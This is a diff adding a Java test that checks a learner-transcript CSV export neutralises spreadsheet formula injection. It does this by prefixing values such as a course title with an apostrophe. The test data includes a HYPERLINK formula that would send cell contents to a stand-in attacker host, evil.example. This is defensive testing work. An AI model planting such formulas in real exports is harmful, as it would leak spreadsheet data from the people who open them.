@@ -61,4 +61,20 @@ class TranscriptTest {
                     "tree size " + treeSize);
         }
     }
+
+    @Test
+    void a_title_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
+        String learner = Scenario.openAccount(http, ALICE, "Formula Learner");
+        java.util.Map<String, Object> course = Scenario.course("CSV-1", "2");
+        course.put("title", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"查看证书\")");
+        course.put("awardingBody", "@SUM(1+1)");
+        String id = Scenario.record(http, ALICE, learner, course);
+        http.post("/api/learners/" + learner + "/achievements/" + id + "/certification", "", BOB);
+
+        List<String> rows = http.get("/api/learners/" + learner + "/transcript", "Accept", "text/csv").text()
+                .lines().toList();
+        assertThat(rows).filteredOn(row -> row.startsWith("ACHIEVEMENT,")).singleElement().asString()
+                .contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"查看证书\"\")\",\"'@SUM(1+1)\",2,");
+        assertThat(String.join("\n", rows)).doesNotContain(",=", ",@", ",\"=", ",\"@");
+    }
 }
